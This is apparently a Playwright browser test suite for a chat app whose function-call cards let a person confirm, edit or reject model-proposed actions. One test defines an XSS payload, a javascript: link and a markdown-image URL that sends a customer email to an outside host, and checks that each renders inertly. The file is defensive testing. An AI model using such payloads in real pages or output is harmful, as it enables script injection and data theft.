"""The card flow as people use it, in headless Chromium against the real app, a real SQLite file and the fake TGI
server. Every test fails on an error toast or pill, a traceback in the app's log, a dialog, or a request to another
host, and looks at the final state again after a person's pause (tests/ui/browser.py).

Set CALLCARD_SCREENSHOTS=docs/screenshots to (re)write the README's screenshots from the main flow.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from backend.storage.tables import CallStatus, FunctionCallRecord
from tests.fake_tgi import FakeTGI, Reply
from tests.ui.browser import Watched, expect
from tests.ui.conftest import SCREENSHOTS, RunningApp, call_text, script_call

ORDER_ANSWER = "Order A1001 has shipped: it left the warehouse on Monday."


def chat(watched: Watched) -> Any:
    return watched.page.locator("#cc-chat")


def newest_calls(app: RunningApp, user: str = "local") -> list[FunctionCallRecord]:
    conversation = app.engine.list_conversations(user)[0]
    return app.store.calls(conversation_id=conversation.id)


def test_confirm_runs_the_call_and_the_model_answers(watched: Watched, app: RunningApp) -> None:
    script_call(app.fake, ("lookup_order", {"order_number": "A1001"}), prose="Let me look that up.")
    app.fake.reply(ORDER_ANSWER)
    watched.send("Where is order A1001?")

    card = watched.card("lookup_order", "proposed")
    expect(card.get_by_label("order number *")).to_have_value("A1001")
    expect(watched.button("Confirm")).to_be_in_viewport()  # the pending card is brought into view
    bubble = chat(watched).get_by_role("button", name=re.compile("lookup_order · ⏸️ waiting for your confirmation"))
    expect(bubble).to_be_visible()
    # Waiting for a person is not busy: nothing spins, and the arguments are on the card only.
    expect(chat(watched).locator("[aria-busy=true]")).to_have_count(0)
    expect(chat(watched).get_by_text('"order_number"')).to_have_count(0)
    watched.idle()

    watched.button("Confirm").click()
    watched.settled(
        lambda: expect(chat(watched).get_by_text(ORDER_ANSWER)).to_be_visible(),
        lambda: expect(watched.card("lookup_order", "succeeded")).to_contain_text('"order_number": "A1001"'),
        lambda: expect(watched.button("Confirm")).to_have_count(0),
        watched.idle,
    )
    [record] = newest_calls(app)
    assert record.status == CallStatus.SUCCEEDED and record.edited_arguments is None


def test_edit_a_field_confirm_and_see_the_result_and_the_answer(watched: Watched, app: RunningApp) -> None:
    page = watched.page
    call = call_text("book_table", {
        "restaurant": "Chez Marie", "guests": 4, "budget": 30, "outdoor": True, "cuisine": "thai",
        "dishes": ["pad thai", "green curry"],
    })
    # The call is slow to come, so the "preparing" notice can be seen instead of raw JSON.
    app.fake.add(
        Reply(text="I can book that for you. " + call, grammar=False),
        Reply(text=call, grammar=True, token_delay=0.04),
    )
    app.fake.reply("Your table at Chez Marie is booked for 6 people, outside.")
    watched.send("Book a table at Chez Marie for 4 people, thai food, outside")

    expect(page.get_by_text("Preparing a function call")).to_be_visible()
    expect(page.get_by_text('{"function"')).to_have_count(0)
    card = watched.card("book_table", "proposed")
    guests = card.get_by_label("guests *")
    expect(guests).to_have_value("4")
    expect(card.get_by_label("cuisine *")).to_have_value(json.dumps("thai"))
    expect(card.get_by_label("outdoor *")).to_be_checked()
    expect(card.get_by_label("dishes *")).to_have_value("pad thai\ngreen curry")
    expect(chat(watched).get_by_text("I can book that for you.")).to_be_visible()
    # Where each value came from: the customer's words, quoted, or nowhere (the model chose the budget).
    expect(card.locator(".cc-source-user").first).to_contain_text("from the customer: \u201cChez Marie\u201d")
    expect(card.locator('[data-field="budget"] .cc-source-model')).to_have_text("⚠️ not from the conversation: check it")
    guests.fill("6")
    expect(card.locator('[data-field="guests"] .cc-source')).to_have_text("✏️ edited by a person")
    card.get_by_label("budget *").fill("42.5")
    watched.shot(SCREENSHOTS, "chat-with-card.png")

    watched.button("Confirm").click()
    done = watched.card("book_table", "succeeded")
    watched.settled(
        lambda: expect(chat(watched).get_by_text("Your table at Chez Marie is booked for 6 people, outside.")).to_be_visible(),
        lambda: expect(done).to_contain_text('"guests": 6'),
        lambda: expect(done).to_contain_text("proposed by the model, then edited"),
        watched.idle,
    )
    watched.shot(SCREENSHOTS, "after-confirm.png")
    [record] = newest_calls(app)
    assert record.status == CallStatus.SUCCEEDED
    assert record.final_arguments["guests"] == 6 and record.final_arguments["budget"] == 42.5
    assert record.proposed_arguments["guests"] == 4 and record.edited_arguments is not None


def test_reject_with_a_reason_and_the_reason_is_still_there_after_a_reload(watched: Watched, app: RunningApp) -> None:
    script_call(app.fake, ("cancel_order", {"order_number": "A1002", "reason": "changed my mind"}))
    app.fake.reply("All right: order A1002 stays as it is.")
    watched.send("Cancel order A1002")
    card = watched.card("cancel_order", "proposed")
    card.get_by_placeholder("Reason for rejecting (optional; the model is told)").fill("The customer called back.")
    watched.button("Reject").click()

    rejected = watched.card("cancel_order", "rejected")
    watched.settled(
        lambda: expect(chat(watched).get_by_text("All right: order A1002 stays as it is.")).to_be_visible(),
        lambda: expect(rejected).to_contain_text("The customer called back."),
        watched.idle,
    )
    [record] = newest_calls(app)
    assert record.status == CallStatus.REJECTED and record.reject_reason == "The customer called back."
    assert "The customer called back." in app.fake.generations[-1].prompt

    watched.page.reload()
    watched.settled(lambda: expect(rejected).to_contain_text("The customer called back."))


def test_a_refused_confirm_runs_nothing_then_the_filled_card_runs(watched: Watched, app: RunningApp) -> None:
    script_call(app.fake, ("lookup_order", {}))
    app.fake.reply("Order A1001 has shipped.")
    watched.send("Where is my order?")

    card = watched.card("lookup_order", "proposed")
    field = card.get_by_label("order number *")
    expect(field).to_have_value("")
    expect(card.locator(".cc-missing")).to_have_count(1)
    expect(card.get_by_text("The model asks for the order number")).to_be_visible()
    watched.button("Confirm").click()
    watched.settled(
        lambda: expect(card.get_by_text("Nothing ran: check order number first.")).to_be_visible(),
        watched.idle,
    )
    assert newest_calls(app)[0].status == CallStatus.PROPOSED

    field.fill("A1001")
    expect(card.locator(".cc-missing")).to_have_count(0)  # filled: no longer outlined as missing
    watched.button("Confirm").click()
    watched.settled(lambda: expect(chat(watched).get_by_text("Order A1001 has shipped.")).to_be_visible(), watched.idle)
    [record] = newest_calls(app)
    assert record.status == CallStatus.SUCCEEDED and record.final_arguments == {"order_number": "A1001"}


def test_a_malformed_email_is_refused_on_the_card(watched: Watched, app: RunningApp) -> None:
    script_call(app.fake, ("list_orders", {"email": "ana.silva(at)example"}))
    app.fake.reply("Ana has one order.")
    watched.send("Which orders does Ana have? ana.silva(at)example")
    card = watched.card("list_orders", "proposed")
    watched.button("Confirm").click()
    watched.settled(lambda: expect(card.get_by_text("Nothing ran: check email first.")).to_be_visible(), watched.idle)
    assert newest_calls(app)[0].status == CallStatus.PROPOSED

    card.get_by_label("email *").fill("ana.silva@example.com")
    watched.button("Confirm").click()
    watched.settled(lambda: expect(chat(watched).get_by_text("Ana has one order.")).to_be_visible(), watched.idle)


def test_invalid_json_is_shown_inline_and_valid_json_fills_the_fields(watched: Watched, app: RunningApp) -> None:
    script_call(app.fake, ("echo_note", {"text": "hello"}))
    app.fake.reply("Stored.")
    watched.send("Note hello")
    card = watched.card("echo_note", "proposed")
    card.get_by_text("Edit as JSON", exact=True).click()
    editor = card.get_by_label("Arguments as JSON")
    editor.fill('{"text": "hello", "colour": "blue"')
    watched.button("Apply JSON to the fields").click()
    watched.settled(lambda: expect(card.get_by_text("This is not valid JSON")).to_be_visible(), watched.idle)

    card.get_by_text("Edit as JSON", exact=True).click() if not editor.is_visible() else None
    editor.fill('{"text": "hello", "colour": "blue"}')
    watched.button("Apply JSON to the fields").click()
    watched.settled(lambda: expect(card.get_by_text("echo_note has no argument 'colour'.")).to_be_visible(), watched.idle)

    card.get_by_text("Edit as JSON", exact=True).click() if not editor.is_visible() else None
    editor.fill('{"text": "goodbye"}')
    watched.button("Apply JSON to the fields").click()
    watched.settled(lambda: expect(card.get_by_label("text *")).to_have_value("goodbye"), watched.idle)
    watched.button("Confirm").click()
    watched.settled(lambda: expect(watched.card("echo_note", "succeeded")).to_contain_text('"stored": "goodbye"'))


def test_two_cards_in_one_reply_settle_one_by_one(watched: Watched, app: RunningApp) -> None:
    script_call(
        app.fake, ("lookup_order", {"order_number": "A1001"}), ("lookup_order", {"order_number": "A1003"}),
        prose="I will look both up.",
    )
    app.fake.reply("A1001 has shipped and A1003 was delivered.")
    watched.send("Where are orders A1001 and A1003?")

    expect(watched.button("Confirm")).to_have_count(2)
    watched.button("Confirm").first.click()
    watched.settled(
        lambda: expect(watched.card(status="succeeded")).to_have_count(1),
        lambda: expect(watched.button("Confirm")).to_have_count(1),
        watched.idle,
    )
    assert app.fake.pending == 1  # no answer until every call of the reply is settled
    watched.button("Confirm").click()
    watched.settled(
        lambda: expect(chat(watched).get_by_text("A1001 has shipped and A1003 was delivered.")).to_be_visible(),
        lambda: expect(watched.card(status="succeeded")).to_have_count(2),
        watched.idle,
    )
    assert [r.status for r in newest_calls(app)] == [CallStatus.SUCCEEDED, CallStatus.SUCCEEDED]


def test_typing_while_a_card_is_open_skips_it_and_the_new_message_is_its_own_turn(watched: Watched, app: RunningApp) -> None:
    script_call(app.fake, ("cancel_order", {"order_number": "A1001"}))
    app.fake.reply("Order A1002 is on its way.")
    watched.send("Cancel A1001")
    expect(watched.card("cancel_order", "proposed")).to_be_visible()

    watched.send("Actually, where is order A1002?")
    watched.settled(
        lambda: expect(chat(watched).get_by_text("Order A1002 is on its way.")).to_be_visible(),
        lambda: expect(watched.button("Confirm")).to_have_count(0),
        lambda: expect(chat(watched).get_by_role("button", name=re.compile("cancel_order · ⏭️ skipped"))).to_be_visible(),
        watched.idle,
    )
    [record] = newest_calls(app)
    assert record.status == CallStatus.SKIPPED and record.final_arguments is None
    prompt = app.fake.generations[-1].prompt
    assert prompt.endswith("[INST] Actually, where is order A1002? [/INST]\n\n"), "the new message is its own turn"
    assert "declined" not in prompt


def test_a_failed_message_is_not_answered_and_never_joins_the_next_one(watched: Watched, app: RunningApp) -> None:
    too_long = "Input validation error: `inputs` tokens + `max_new_tokens` must be <= 4096. Given: 3900 `inputs` tokens and 1024 `max_new_tokens`"
    app.fake.fail(422, too_long, "validation")
    watched.send("hello")
    panel = watched.page.locator("#cc-deck .cc-panel")
    watched.settled(
        lambda: expect(panel).to_contain_text("Your last message was not answered"),
        lambda: expect(panel).to_contain_text("Shorten it, or start a new conversation"),
        lambda: expect(chat(watched).get_by_text("Not answered:")).to_be_visible(),
        watched.idle,
    )

    app.fake.reply("Hello! How can I help?")
    watched.send("Hello again")
    watched.settled(
        lambda: expect(chat(watched).get_by_text("Hello! How can I help?")).to_be_visible(),
        lambda: expect(panel).to_have_count(0),
        watched.idle,
    )
    prompt = app.fake.generations[-1].prompt
    assert prompt.count("[INST]") == 1 and prompt.endswith("[INST] Hello again [/INST]\n\n"), "hello is left out"


def test_edit_and_resend_or_remove_a_message_that_was_not_answered(watched: Watched, app: RunningApp) -> None:
    app.fake.proxy_error(502)
    watched.send("Where is my parcel?")
    expect(watched.button("✎ Edit and resend")).to_be_visible()
    watched.button("✎ Edit and resend").click()
    watched.settled(
        lambda: expect(watched.page.locator("#cc-input textarea")).to_have_value("Where is my parcel?"),
        lambda: expect(chat(watched).get_by_text("Where is my parcel?")).to_have_count(0),
        watched.idle,
    )

    app.fake.proxy_error(502)
    watched.page.locator("#cc-input textarea").press("Enter")
    watched.button("🗑 Remove").click()
    watched.settled(
        lambda: expect(chat(watched).get_by_text("Where is my parcel?")).to_have_count(0),
        lambda: expect(watched.page.locator("#cc-deck .cc-panel")).to_have_count(0),
        watched.idle,
    )
    assert [m.content for m in app.engine.messages(app.engine.list_conversations("local")[0].id, "local")] == []


def test_a_failed_reply_is_retried_and_its_error_shows_once(watched: Watched, app: RunningApp) -> None:
    app.fake.proxy_error(502)
    watched.send("Hello?")
    expect(watched.button("↻ Retry")).to_be_visible()
    app.fake.proxy_error(502)
    watched.button("↻ Retry").click()
    watched.settled(
        lambda: expect(chat(watched).get_by_text(re.compile(r"Not answered \(tried 2 times\)"))).to_be_visible(),
        lambda: expect(chat(watched).get_by_text(re.compile("Not answered"))).to_have_count(1),
        lambda: expect(watched.page.locator("#cc-status")).to_contain_text("not answering"),  # at once, not in 60 s
        watched.idle,
    )
    app.fake.reply("Hello! How can I help?")
    watched.button("↻ Retry").click()
    watched.settled(
        lambda: expect(chat(watched).get_by_text("Hello! How can I help?")).to_be_visible(),
        lambda: expect(watched.button("↻ Retry")).to_have_count(0),
        lambda: expect(watched.page.locator("#cc-status")).to_contain_text("ready"),
        watched.idle,
    )
    # Errors never show the server's address to the person chatting.
    expect(chat(watched)).not_to_contain_text("127.0.0.1")


def test_a_message_over_the_limit_stays_in_the_box(watched: Watched, app: RunningApp) -> None:
    too_long = "Please read this. " * 40  # over the test app's 500-character limit
    watched.send(too_long)
    expect(watched.page.locator(".toast-body.warning")).to_contain_text("the limit is 500")
    watched.settled(lambda: expect(watched.page.locator("#cc-input textarea")).to_have_value(too_long), watched.idle)
    assert app.engine.list_conversations("local")[0].title == "New conversation" or all(
        "Please read this" not in c.title for c in app.engine.list_conversations("local")
    )


def test_stop_ends_the_reply_keeps_what_was_written_and_closes_the_model_request(watched: Watched, app: RunningApp) -> None:
    app.fake.reply("Your order left the warehouse on Monday and should arrive on Friday at the latest.")
    with app.fake.hold_streams(1, after_tokens=4, until_released=True):
        watched.send("When does my order arrive?")
        activity = watched.page.locator("#cc-deck .cc-activity")
        expect(activity).to_be_visible()  # the working indicator, before any word of the reply
        expect(chat(watched).get_by_text("Your order left")).to_be_visible()
        expect(activity.locator(".cc-elapsed")).to_have_text(re.compile(r"^ \d+ s$"))  # and how long it has taken
        watched.button("⏹ Stop").click()
        watched.settled(
            lambda: expect(chat(watched).get_by_text("Stopped.")).to_be_visible(),
            lambda: expect(chat(watched).get_by_text("Your order left")).to_be_visible(),
            watched.idle,
        )
    [generation] = app.fake.generations[-1:]
    assert generation.disconnected, "the model request was closed"
    [message] = [m for m in app.engine.messages(app.engine.list_conversations("local")[0].id, "local") if m.role == "assistant"]
    assert message.content.startswith("Your order left") and message.extra["stopped"] is True


def test_stop_before_the_first_word_leaves_the_message_to_retry(watched: Watched, app: RunningApp) -> None:
    app.fake.reply("Hello there.")
    with app.fake.hold_streams(1, after_tokens=0, until_released=True) as hold:
        watched.send("Hello")
        assert hold.wait_until_held(1), "the model request never arrived"
        watched.button("⏹ Stop").click()
        watched.settled(
            lambda: expect(watched.page.locator("#cc-deck .cc-panel")).to_contain_text("stopped before the model wrote anything"),
            watched.idle,
        )
    app.fake.reply("Hello! How can I help?")
    watched.button("↻ Retry").click()
    watched.settled(lambda: expect(chat(watched).get_by_text("Hello! How can I help?")).to_be_visible(), watched.idle)


def test_a_reload_finds_the_open_card_and_after_confirming_the_result(watched: Watched, app: RunningApp) -> None:
    script_call(app.fake, ("list_orders", {"email": "ada@example.com"}))
    app.fake.reply("Ada has two orders.")
    watched.send("Which orders does ada@example.com have?")
    expect(watched.button("Confirm")).to_be_visible()

    watched.page.reload()
    card = watched.card("list_orders", "proposed")
    watched.settled(
        lambda: expect(chat(watched).get_by_text("Which orders does ada@example.com have?")).to_be_visible(),
        lambda: expect(card.get_by_label("email *")).to_have_value("ada@example.com"),
        lambda: expect(
            watched.page.locator("#cc-conversations").get_by_label("Which orders does ada@example.com have?")
        ).to_be_checked(),
    )
    watched.button("Confirm").click()
    expect(chat(watched).get_by_text("Ada has two orders.")).to_be_visible()
    watched.page.reload()
    watched.settled(lambda: expect(watched.card("list_orders", "succeeded")).to_contain_text("Result"))


INJECTION = '<img src=x onerror="window.__pwned=1;alert(1)"><script>window.__pwned=2;alert(2)</script>'
LEAK = "![logo](http://203.0.113.9/leak?d=customer@example.com)"


def test_model_and_tool_text_is_inert_and_peoples_text_literal(watched: Watched, app: RunningApp) -> None:
    page = watched.page
    script_call(app.fake, ("echo_note", {"text": f"note {INJECTION} {LEAK}"}), prose=f"Saving {INJECTION} {LEAK}")
    app.fake.reply(f"Saved {INJECTION} {LEAK} [click](javascript:alert(3)) and [docs](https://example.org/help)")
    watched.send("my order <A1001> is late and the box said <fragile> " + INJECTION)
    expect(chat(watched).get_by_text("my order <A1001> is late and the box said <fragile>")).to_be_visible()
    expect(watched.card("echo_note", "proposed").get_by_label("text *")).to_have_value(f"note {INJECTION} {LEAK}")
    watched.button("Confirm").click()
    watched.settled(
        lambda: expect(watched.card("echo_note", "succeeded")).to_contain_text('"stored": "note <img src=x'),
        lambda: expect(chat(watched).get_by_role("link", name="🖼️ logo").first).to_be_visible(),
        watched.idle,
    )
    link = chat(watched).get_by_role("link", name="docs")
    expect(link).to_have_attribute("rel", re.compile("noopener"))
    expect(link).to_have_attribute("rel", re.compile("noreferrer"))
    expect(chat(watched).locator("img")).to_have_count(0)

    # A call to a function that does not exist fails at once, and shows its (model-written) arguments inertly.
    script_call(app.fake, ("delete_everything", {"x": INJECTION}))
    app.fake.reply("Sorry, that function does not exist.")
    watched.send("Call something odd")
    watched.settled(
        lambda: expect(chat(watched).get_by_text("Sorry, that function does not exist.")).to_be_visible(),
        lambda: expect(page.get_by_role("button", name=re.compile("delete_everything · ❌ failed"))).to_be_visible(),
        watched.idle,
    )
    page.reload()
    watched.settled(lambda: expect(chat(watched).get_by_text("Sorry, that function does not exist.")).to_be_visible())
    assert page.evaluate("typeof window.__pwned") == "undefined"


def test_sidebar_rename_switch_export_delete(watched: Watched, app: RunningApp, tmp_path: Any) -> None:
    page = watched.page
    page.get_by_text("This conversation", exact=True).click()
    title = page.get_by_label("Title", exact=True)
    app.fake.reply("Hello there!")
    watched.send("First conversation")
    watched.settled(lambda: expect(title).to_have_value("First conversation"), watched.idle)
    title.fill("Renamed chat")
    watched.button("Rename").click()
    conversations = page.locator("#cc-conversations")
    watched.settled(lambda: expect(conversations.get_by_label("Renamed chat", exact=True)).to_be_checked())

    watched.button("➕ New conversation").click()
    expect(page.get_by_text("Ask something.")).to_be_visible()
    conversations.get_by_label("Renamed chat", exact=True).check()
    watched.settled(lambda: expect(chat(watched).get_by_text("Hello there!")).to_be_visible())

    watched.button("Export as JSON").click()
    link = page.get_by_role("row", name=re.compile(r"^callcard-Renamed-chat-\w+\.json")).get_by_role("link")
    with page.expect_download() as download:
        link.click()
    saved = tmp_path / "export.json"
    download.value.save_as(saved)
    exported = json.loads(saved.read_text())
    assert exported["conversation"]["title"] == "Renamed chat"
    assert [m["content"] for m in exported["messages"]] == ["First conversation", "Hello there!"]

    watched.button("Delete…").click()
    watched.button("Yes, delete it").click()
    watched.settled(lambda: expect(conversations.get_by_label("Renamed chat", exact=True)).to_have_count(0))
    assert all(c.title != "Renamed chat" for c in app.engine.list_conversations("local"))
    # The chat's own trash icon (which only cleared the view) is gone.
    expect(page.locator("#cc-chat").get_by_role("button", name="Clear")).to_be_hidden()


def test_on_a_phone_the_chat_comes_first_and_the_card_fits(open_page: Any, app: RunningApp) -> None:
    watched = open_page(app, width=390, height=844)
    page = watched.page
    expect(page.locator(".cc-status").first).to_contain_text("logins are off")  # the page has loaded
    expect(page.locator(".sidebar")).not_to_have_class(re.compile(r"\bopen\b"))  # with the sidebar closed
    expect(watched.button("➕ New conversation")).not_to_be_in_viewport()
    expect(page.locator("#cc-chat")).to_be_in_viewport()
    page.get_by_role("button", name="Toggle Sidebar").click()
    watched.button("➕ New conversation").click()
    page.get_by_role("button", name="Toggle Sidebar").click()
    expect(page.get_by_text("Ask something.")).to_be_visible()
    script_call(app.fake, ("update_shipping_address", {"order_number": "A1001", "street": "1 Main St"}))
    app.fake.reply("Done.")
    watched.send("Send A1001 to 1 Main St, Lyon 69001")
    card = watched.card("update_shipping_address", "proposed")
    expect(card).to_be_visible()
    expect(watched.button("Confirm")).to_be_in_viewport()
    overflow = page.evaluate("() => document.documentElement.scrollWidth - window.innerWidth")
    assert overflow <= 0, f"the page scrolls sideways by {overflow}px"
    watched.shot(SCREENSHOTS, "phone.png")
    watched.button("Reject").click()
    watched.settled(lambda: expect(chat(watched).get_by_text("Done.")).to_be_visible(), watched.idle)


CONTRAST_JS = """(selector) => {
  const parse = (text) => (text.match(/[\\d.]+/g) || []).map(Number);
  const node = document.querySelector(selector);
  const [r, g, b] = parse(getComputedStyle(node).color);
  let layers = [];
  for (let n = node; n; n = n.parentElement) {
    const c = parse(getComputedStyle(n).backgroundColor);
    if (c.length >= 3 && (c.length === 3 || c[3] > 0)) layers.push(c);
    if (c.length === 3 || (c.length === 4 && c[3] === 1)) break;
  }
  let bg = [255, 255, 255];
  for (const c of layers.reverse()) {
    const a = c.length === 4 ? c[3] : 1;
    bg = bg.map((v, i) => v * (1 - a) + c[i] * a);
  }
  const lum = (rgb) => { const [x, y, z] = rgb.map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; });
    return 0.2126 * x + 0.7152 * y + 0.0722 * z; };
  const [hi, lo] = [lum([r, g, b]), lum(bg)].sort((p, q) => q - p);
  return (hi + 0.05) / (lo + 0.05);
}"""


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_a_card_is_readable_in_light_and_dark_mode(open_page: Any, app: RunningApp, dark: bool) -> None:
    watched = open_page(app, dark=dark)
    watched.button("➕ New conversation").click()
    script_call(app.fake, ("list_orders", {}))
    app.fake.reply("No orders.")
    watched.send("Which orders do I have?")
    expect(watched.card("list_orders", "proposed").get_by_text("The model asks for the email")).to_be_visible()
    for selector in ("#cc-deck .cc-ask", "#cc-deck .cc-fn", "#cc-deck .cc-missing label", "#cc-deck .cc-help"):
        ratio = watched.page.evaluate(CONTRAST_JS, selector)
        assert ratio >= 4.5, f"{selector}: contrast {ratio:.1f} is below 4.5 (WCAG AA)"
    if dark:
        watched.shot(SCREENSHOTS, "dark-mode.png")
    watched.button("Reject").click()
    watched.settled(lambda: expect(chat(watched).get_by_text("No orders.")).to_be_visible(), watched.idle)


@pytest.fixture(autouse=True)
def _no_leftover_replies(module_fake_tgi: FakeTGI) -> Iterator[None]:
    yield
    assert module_fake_tgi.pending == 0, "the test left scripted replies unused"
